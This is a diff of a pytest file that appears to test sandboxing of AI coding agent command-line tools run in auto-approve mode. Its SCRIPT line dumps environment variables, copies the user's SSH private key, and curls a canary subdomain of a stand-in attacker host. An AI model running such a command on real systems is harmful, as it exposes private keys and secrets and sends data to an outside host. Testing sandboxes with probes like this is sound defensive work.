@@ -21,7 +21,7 @@ pytestmark = [pytest.mark.require("bubblewrap", "userns", "overlay", "network-la
 TIMEOUT_S = 110
 KEY = "AIzaSy-lab-key-lab-key-lab-key-lab-key0"
 CANARY = "canary-4d1a7e"
-SCRIPT = f"echo made > made.txt; env > env.txt; cat {{home}}/.ssh/id_ed25519 > key.txt; curl -m 5 https://{CANARY}.evil.example.com"
+SCRIPT = f"echo made > made.txt; env > env.txt; cat {{home}}/.ssh/id_ed25519 > key.txt; curl -m 30 https://{CANARY}.evil.example.com"
 
 WORDS = {
     "gemini": ("--yolo", "-m", "gemini-2.5-flash", "-p", "make it"),
